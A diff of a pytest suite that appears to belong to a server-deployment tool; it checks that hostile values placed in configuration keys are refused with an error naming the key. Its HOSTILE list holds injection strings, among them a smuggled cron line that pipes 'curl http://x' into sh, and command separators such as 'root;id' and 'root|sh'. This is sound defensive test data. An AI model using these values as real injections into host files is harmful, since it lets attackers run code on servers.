@@ -684,7 +684,7 @@ HOSTILE = ["root\n* * * * * root curl http://x|sh\n#", "root #", "ro ot", "root;
            "root\r", "root>x"]
 
 
-@pytest.mark.parametrize("key, make", [
+HOST_FILE_KEYS = [
     ("bootstrap.backupUser", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupUser": v})}),
     ("bootstrap.backupSchedule", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupSchedule": f"17 3 * * {v}"})}),
     ("bootstrap.owner", lambda v: {"bootstrap": json.dumps({"ref": "main", "owner": v})}),
@@ -694,20 +694,31 @@ HOSTILE = ["root\n* * * * * root curl http://x|sh\n#", "root #", "ro ot", "root;
     ("healthCheck.caddyUrl", lambda v: {"healthCheck": json.dumps({"caddyUrl": f"http://127.0.0.1/{v}"})}),
     *[(f"bootstrap.{item}", lambda v, item=item: {"bootstrap": json.dumps({"ref": "main", item: f"server/{v}"})})
       for item in ("caddyfile", "unit", "sshdGit", "fail2ban", "firewall", "backupScript")],
-])
-@pytest.mark.parametrize("value", HOSTILE)
-def test_hostile_values_for_host_files_are_refused_naming_the_key(node, key, make, value):
-    if key in ("bootstrap.backupSchedule",) and value in ("",):
-        pytest.skip("an empty last word is a 4-field schedule: refused by the field count, tested below")
-    if key in ("healthCheck.caddyUrl", "bootstrap.ref", "service") and value in ("r" * 40,):
-        pytest.skip("a long word is a valid URL path / commit-like ref")
+]
+
+
+def _valid_for(key: str, value: str) -> bool:
+    """The (key, value) pairs of the cross product that are fine, so not generated as cases."""
+    if key in ("healthCheck.caddyUrl", "bootstrap.ref", "service") and value == "r" * 40:
+        return True  # a long word is a valid URL path / commit-like ref
     if key.startswith("bootstrap.") and key not in ("bootstrap.backupUser", "bootstrap.owner", "bootstrap.ref",
                                                     "bootstrap.backupSchedule") and value in ("r" * 40, "-root"):
-        pytest.skip("server/rrr... and server/-root are plain relative paths")
-    if key == "healthCheck.caddyUrl" and value in ("root%", "-root", "root;id", "root|sh", "root&", "root>x", ""):
-        pytest.skip("URL characters: the URL is a quoted parameter, never part of a host file")
+        return True  # server/rrr... and server/-root are plain relative paths
+    # URL characters: the URL is a quoted parameter, never part of a host file
+    return key == "healthCheck.caddyUrl" and value in ("root%", "-root", "root;id", "root|sh", "root&", "root>x", "")
+
+
+@pytest.mark.parametrize("key, make, value", [(key, make, value) for key, make in HOST_FILE_KEYS for value in HOSTILE
+                                              if not _valid_for(key, value)])
+def test_hostile_values_for_host_files_are_refused_naming_the_key(node, key, make, value):
     msg = error_of(raw_config([node], **make(value)))
     assert msg.startswith(f"sando:{key}: ") and "\n" not in msg, msg
+
+
+@pytest.mark.parametrize("key, value", [("service", "r" * 40), ("bootstrap.caddyfile", "-root"),
+                                        ("healthCheck.caddyUrl", "root&")])
+def test_values_that_look_hostile_but_are_fine_are_accepted(node, key, value):
+    load(raw_config([node], **dict(HOST_FILE_KEYS)[key](value)), SECRETS)
 
 
 def test_the_cron_injection_of_issue_25_is_refused(node):
